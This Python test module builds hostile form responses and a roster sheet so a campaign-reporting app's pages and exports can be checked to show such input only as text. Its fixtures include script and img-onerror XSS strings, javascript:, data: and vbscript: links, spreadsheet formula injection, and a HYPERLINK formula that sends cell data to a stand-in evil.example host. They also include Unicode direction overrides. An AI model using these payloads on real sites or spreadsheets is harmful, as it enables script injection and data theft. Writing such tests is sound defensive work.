"""A hostile response sheet and roster: what anyone can type into a public form, as test data.

HTML and script tags, Markdown links to javascript:, bold markers, spreadsheet formulas, Unicode direction
overrides and zero-width characters, emoji, a 60,000-character cell, many rows. The pages and exports must
show all of it as text, run none of it and link none of it.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

from campaign.config import Config
from tests.sheet_samples import FIELD_ORDER, csv_bytes, header, xlsx_bytes

SCRIPT = "<script>document.title='pwned-script'</script>"
IMG = "<img src=x onerror=\"document.title='pwned-img'\">"
JS_LINK = "[bấm vào đây](javascript:alert(document.cookie))"
BOLD = "**Sở giả mạo**"
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")'
RLO = "\u202e"
ZERO_WIDTH = "\u200b\u200d\u2060\ufeff"
EMOJI = "🎉🇻🇳👍"
LONG_CELL_CHARS = 60_000
LONG_TEXT = ("Ghi chú rất dài lặp lại nhiều lần; " * 2000)[:LONG_CELL_CHARS]
BAD_LINKS = ("javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)")
GOOD_LINK = "https://stttt.hanam.gov.vn/tin-tuc/ngay-17-5"
EXTRA_ROWS = 1500  # plain answers after the hostile ones: "many rows", still quick to render

# Personal data typed by hostile respondents: a leader must never see any of it.
REPORTERS = (f"<b>Lê Thị Bí Mật</b> {JS_LINK}", f"{BOLD} Phạm Văn Riêng {SCRIPT}", f"Hoàng{RLO}Ẩn Danh{ZERO_WIDTH}")
PHONES = ("=1+2*0912000111", "0987 654 321 <script>x</script>", "+84 (0)24 3943 7001")
EMAILS = ("bimat.le@hanam.gov.vn", "rieng.pham@namdinh.gov.vn", "an.danh@evil.example")

# Hostile agencies added to the roster (a roster tab is edited by people too).
HOSTILE_GROUP = "<script>document.title='pwned-group'</script>"
HOSTILE_AGENCY = f"{IMG} Ban **giả** [mạo](javascript:alert(1)) {EMOJI}"
HOSTILE_CONTACT = "lienhe.gia@evil.example"


def hostile_answers(config: Config, extra_rows: int = EXTRA_ROWS) -> list[dict]:
    """Hostile rows first, then `extra_rows` ordinary answers from the provinces, all in May 2021."""
    label = {a.key: a.label_vi for a in config.activities}
    rows = [
        {
            "timestamp": dt.datetime(2021, 5, 17, 9, 0, 0),
            "email": EMAILS[0],
            "agency_name": f"Sở TT{RLO}&TT tỉnh Hà{ZERO_WIDTH} Nam",
            "reporter": REPORTERS[0],
            "phone": PHONES[0],
            "activities": f"{label['rally']}, {SCRIPT}",
            "article": FORMULA,
            "evidence": " ; ".join((*BAD_LINKS, GOOD_LINK)),
            "notes": f"{JS_LINK} {BOLD} {IMG}",
        },
        {
            "timestamp": dt.datetime(2021, 5, 18, 10, 30, 0),
            "email": EMAILS[1],
            "agency_name": f"{SCRIPT}{JS_LINK}",
            "reporter": REPORTERS[1],
            "phone": PHONES[1],
            "activities": label["article"],
            "article": "=1+1",
            "evidence": "javascript:alert('x')",
            "notes": FORMULA,
        },
        {
            "timestamp": dt.datetime(2021, 5, 19, 8, 15, 0),
            "email": EMAILS[2],
            "agency_name": f"{BOLD} Sở Thông tin\u200b và Truyền\u200d thông tỉnh Nam Định {EMOJI}",
            "reporter": REPORTERS[2],
            "phone": PHONES[2],
            "activities": f"{label['webinar']}, Khác: <iframe src=javascript:alert(1)>",
            "webinar": "khoảng 3 🎉",
            "notes": LONG_TEXT,
        },
        {
            "timestamp": "=NOW()",
            "email": "x@evil.example?cc=all@mic.gov.vn",
            "agency_code": "P01<script>",
            "agency_name": LONG_TEXT,
            "activities": label["banner"],
            "banner": "-5",
            "evidence": f'https://evil.example/"><script>alert(1)</script>{RLO}',
        },
    ]
    for i in range(extra_rows):
        code = f"P{(i % 63) + 1:02d}"
        rows.append(
            {
                "timestamp": dt.datetime(2021, 5, 1 + i % 30, 8 + i % 10, i % 60, 0),
                "email": f"nguoi{i}@so.gov.vn",
                "agency_code": code,
                "agency_name": f"Sở TT&TT {code}",
                "activities": label["article"],
                "article": str(i % 7),
            }
        )
    return rows


def hostile_roster(config: Config) -> list[list]:
    """The campaign's roster with two hostile agencies added, as a roster tab."""
    with open(config.campaign.roster, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    width = len(rows[0])
    extra = [
        ["X01", HOSTILE_AGENCY, HOSTILE_GROUP, f"javascript:alert(1)@x.vn; {HOSTILE_CONTACT}", FORMULA, BOLD, SCRIPT, ""],
        ["X02", f"Đơn vị{RLO} {SCRIPT}", "province", '=HYPERLINK("x")', "", "", "", ""],
    ]
    return rows + [r[:width] + [""] * (width - len(r)) for r in extra]


def hostile_csv(config: Config, extra_rows: int = EXTRA_ROWS) -> bytes:
    return csv_bytes(config, hostile_answers(config, extra_rows))


def hostile_xlsx(config: Config, extra_rows: int = EXTRA_ROWS) -> bytes:
    """The hostile answers and the hostile roster tab, as a downloaded workbook."""
    return xlsx_bytes(config, hostile_answers(config, extra_rows), hostile_roster(config))


def many_rows_csv(config: Config, rows: int) -> bytes:
    """A sheet of `rows` short answers (for the row limit): built line by line, fast even for 100,000."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(header(config))
    name = FIELD_ORDER.index("agency_name")
    line = ["17/05/2021 09:00:00"] + [""] * (len(FIELD_ORDER) - 1)
    for i in range(rows):
        line[name] = f"Sở TT&TT số {i}"
        writer.writerow(line)
    return buffer.getvalue().encode("utf-8")
